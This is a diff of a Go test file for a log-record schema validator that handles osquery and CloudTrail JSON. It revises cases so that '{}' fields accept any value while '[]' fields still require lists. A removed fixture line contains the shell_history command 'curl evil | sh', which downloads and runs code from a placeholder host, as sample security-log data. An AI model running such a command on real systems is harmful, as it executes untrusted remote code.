@@ -105,8 +105,6 @@ func TestClassifyErrors(t *testing.T) {
 			`key "unixTime": 1.5 is not an integer`},
 		{"object for string", strings.Replace(osqueryDiff, `"name":"shell_history"`, `"name":{}`, 1), osq,
 			`key "name": an object is not a string`},
-		{"string for {}", strings.Replace(osqueryDiff, `"columns":{"command":"curl evil | sh","uid":"501","n":3}`, `"columns":"x"`, 1), osq,
-			`key "columns": string "x" is not an object`},
 		{"list document", `[1,2]`, osq, "record is a list"},
 		{"json_path finds nothing", `{"Records":[]}`, ct, `json_path "Records[*]" found no records`},
 		{"one bad record of two", strings.Replace(cloudtrailDoc, `"eventID":"e2",`, ``, 1), nil,
@@ -163,6 +161,15 @@ t:
 		{"nested extra key", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":{"x":1,"y":{},"z":1}}`, nil},
 		{"nested missing key", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":{"x":1}}`, nil},
 		{"list for mapping", `{"s":"","i":1,"f":1,"b":true,"o":{},"m":[]}`, nil},
+		// {} takes any value as it is, as StreamAlert (ghe:general's org_id
+		// is a number in some GitHub events and a list in others); [] still
+		// needs a list.
+		{"scalars and lists for {}", `{"s":"","i":1,"f":1,"b":true,"o":42,"m":{"x":1,"y":["a",1]}}`,
+			map[string]any{"s": "", "i": int64(1), "f": 1.0, "b": true, "o": int64(42), "m": map[string]any{"x": int64(1), "y": []any{"a", int64(1)}}}},
+		{"string for {}", `{"s":"","i":1,"f":1,"b":true,"o":"x","m":{"x":1,"y":false}}`,
+			map[string]any{"s": "", "i": int64(1), "f": 1.0, "b": true, "o": "x", "m": map[string]any{"x": int64(1), "y": false}}},
+		{"object for []", `{"s":"","i":1,"f":1,"b":true,"o":{},"l":{},"m":{"x":1,"y":{}}}`, nil},
+		{"string for []", `{"s":"","i":1,"f":1,"b":true,"o":{},"l":"a","m":{"x":1,"y":{}}}`, nil},
 		{"NaN float", `{"s":"","i":1,"f":"NaN","b":true,"o":{},"m":{"x":1,"y":{}}}`, nil},
 		{"integer overflow", `{"s":"","i":"99999999999999999999","f":1,"b":true,"o":{},"m":{"x":1,"y":{}}}`, nil},
 		{"CRLF", "{\"s\":\"a\",\"i\":1,\"f\":1,\"b\":true,\"o\":{},\"m\":{\"x\":1,\"y\":{}}}\r\n",
